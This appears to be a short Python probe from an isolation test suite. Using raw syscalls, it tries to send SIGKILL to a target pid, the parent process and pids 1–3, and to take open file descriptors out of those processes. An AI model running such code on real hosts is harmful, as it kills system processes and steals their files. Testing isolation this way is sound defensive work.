# tries: signals by handles of processes, to threads and with values, and to take open files out of a process
# success: another process gets it
# seen by: a process of the host with the same user, the output
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (A["pid"], os.getppid(), 1, 2, 3):
    if pid in (0, os.getpid()):
        continue
    fd = libc.syscall(434, pid, 0)
    if fd >= 0:
        print("did-" + A["id"], "handle of", pid)
        libc.syscall(424, fd, 9, 0, 0)
        if libc.syscall(438, fd, 0, 0) >= 0:
            print("did-" + A["id"], "file of", pid)
    info = ctypes.create_string_buffer(128)
    info[0:4] = (9).to_bytes(4, "little")
    info[8:12] = (-1).to_bytes(4, "little", signed=True)
    libc.syscall(129 if os.uname().machine == "x86_64" else 138, pid, 9, info)
    libc.syscall(200 if os.uname().machine == "x86_64" else 130, pid, 9)
